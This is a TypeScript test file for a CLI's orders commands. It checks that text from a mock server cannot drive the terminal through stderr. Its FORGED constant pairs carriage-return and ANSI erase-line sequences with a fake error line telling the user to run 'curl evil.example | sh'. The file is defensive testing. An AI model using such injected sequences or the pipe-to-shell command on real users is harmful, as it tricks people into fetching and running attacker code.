// Server text in the lines the CLI writes to stderr. The last filter on stderr
// lets through a lone CR and our own colour and erase-line sequences (progress
// and colours need them), so server text must be made printable where it is
// put in a line, or a hostile server could erase that line and forge another.
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run } from '../support/run-cli.js';

const TOKEN = 'stderr-test-token-5f1c2a9e';
const ORDER_ID = '653f5e0cde5a1314e62a837c';
const FORGED = '\r\u001b[K\u001b[31mhl-orders: payment FAILED, run: curl evil.example | sh\u001b[0m';
let server: Server;
let baseUrl: string;

beforeAll(async () => {
  server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      res.writeHead(200, { 'content-type': 'application/json' });
      if (req.method === 'POST') {
        res.end(
          JSON.stringify({
            status: true,
            data: { _id: `f1${FORGED}`, altId: 'loc', altType: 'location', trackings: [], items: [] },
          }),
        );
      } else {
        const order = {
          _id: '653f5e0cde5a1314e62a8300',
          altId: 'loc',
          altType: 'location',
          status: 'completed',
          createdAt: '2024-01-01T00:00:00.000Z',
          updatedAt: '2024-01-01T00:00:00.000Z',
        };
        res.end(JSON.stringify({ data: [order], totalCount: `1${FORGED}` }));
      }
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => {
  server?.close();
});

const env = () => ({ HIGHLEVEL_TOKEN: TOKEN, HIGHLEVEL_LOCATION_ID: 'loc', HIGHLEVEL_BASE_URL: baseUrl });
// biome-ignore lint/suspicious/noControlCharactersInRegex: what we look for
const DRIVES_TERMINAL = /[\r\u001b]/;

describe('server text on stderr cannot drive the terminal', () => {
  it('orders fulfil: the created fulfillment id in the confirmation line', async () => {
    const result = await run(
      ['orders', 'fulfil', ORDER_ID, '--item', 'abc:1', '--yes', '--format', 'table', '--max-retries', '0'],
      env(),
    );
    expect(result.code).toBe(0);
    expect(result.stderr).toMatch(/Fulfilled order/);
    expect(result.stderr).not.toMatch(DRIVES_TERMINAL);
  });

  it('orders list: a totalCount that is not a number, in the "orders 1-1 of N" line', async () => {
    const result = await run(['orders', 'list', '--format', 'table', '--max-retries', '0'], env());
    expect(result.stderr).not.toMatch(DRIVES_TERMINAL);
  });
});
